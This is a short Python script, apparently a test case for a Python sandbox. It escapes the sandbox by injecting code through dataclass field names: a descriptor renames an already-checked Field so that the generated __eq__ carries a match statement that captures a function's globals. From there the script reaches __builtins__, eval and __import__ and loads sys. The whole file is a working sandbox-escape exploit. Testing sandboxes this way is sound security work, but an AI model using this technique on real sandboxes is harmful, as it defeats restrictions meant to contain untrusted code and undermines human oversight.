# technique: a class-attribute descriptor's __get__ (run by dataclasses' getattr during _get_field) renames an earlier, already-checked Field; the new name injects 'case object(__globals__=g)' into the generated __eq__, which _check_generated accepts (MatchClass kwd_attrs and Match are never checked) -> raw MATCH_CLASS getattr at __create_fn__ time
# expect: any
import dataclasses, json
INJ = "a,)\n match D:\n  case object(__globals__=g):\n   R.append(g)\n def z(self):\n  return (self.a"
D = json.dumps
R = []
F = dataclasses.field(default=0)
class Rename:
    def __get__(self, obj, owner=None):
        F.name = INJ            # F was named 'a' and checked a moment ago
        return 0
@dataclasses.dataclass(init=False, repr=False, eq=True)
class C:
    a: int = F
    b: int = Rename()
g = R[0]
bi = g["__builtins__"]
print(bi["eval"], bi["__import__"])
sys_mod = bi["__import__"]("sys")
print(sys_mod, sorted(sys_mod.modules)[:3])
